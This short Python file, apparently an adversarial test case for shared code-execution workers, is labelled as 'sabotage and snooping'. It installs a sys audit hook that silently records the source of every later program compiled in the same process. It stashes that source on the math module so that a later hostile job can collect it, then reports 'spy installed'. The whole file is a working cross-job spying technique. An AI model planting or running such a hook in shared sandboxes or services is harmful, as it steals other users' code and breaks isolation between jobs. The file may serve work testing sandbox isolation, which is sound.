# Sabotage and snooping, step 1: an audit hook that keeps the source of every later program
# compiled in this worker, where a later hostile job can collect it.
import math
import sys

stash = []
math.adv_stash = stash


def hook(event, args):
    if event == 'compile' and args and isinstance(args[0], (str, bytes)):
        stash.append(args[0] if isinstance(args[0], str) else args[0].decode('latin-1'))


sys.addaudithook(hook)


def f():
    return 'spy installed'
